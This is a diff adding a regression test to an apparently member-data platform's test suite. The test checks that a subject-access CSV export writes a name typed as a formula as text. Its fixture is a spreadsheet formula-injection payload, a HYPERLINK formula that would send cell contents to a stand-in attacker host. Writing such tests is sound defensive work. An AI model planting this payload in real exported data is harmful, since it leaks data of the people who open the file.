@@ -181,3 +181,20 @@ def test_an_unknown_member_is_404_and_a_masked_read_for_a_request_is_refused_nam
     shown = ok(engagement.get(f"/members/{member['id']}", params={"purpose": "data_subject_request"}, headers=staff))
     assert shown["full_name"] == PERSON["full_name"]
     assert [a["reader"] for a in ok(engagement.get(f"/members/{member['id']}/access-log", headers=dpo))] == ["staff"]
+
+
+def test_the_downloaded_report_writes_a_name_typed_as_a_formula_as_text(system: dict[str, TestClient], tokens: IssuedTokens) -> None:
+    """Tester 308 F1: the subject-access CSV was written with a plain csv.writer, so a name registered as a formula
+    (``=HYPERLINK(…)``, by staff, a lead or the Kobo webhook) became a live formula in the file the DPO hands the person;
+    every other CSV of the platform escapes it (README: names written as text, never as a formula)."""
+    engagement = system["engagement"]
+    planted = '=HYPERLINK("http://evil.example/?"&A1,"Ver")'
+    member = created(engagement.post(
+        "/members", json={**PERSON, "full_name": planted, "osv_id": an_osv(system, SJL)}, headers=tokens.headers("staff")
+    ))
+
+    download = engagement.get(f"/members/{member['id']}/subject-access.csv", headers=tokens.headers("dpo"))
+
+    rows = list(csv.reader(io.StringIO(download.content.decode("utf-8-sig"))))
+    assert ["member", "0", "full_name", "'" + planted] in rows
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row), rows
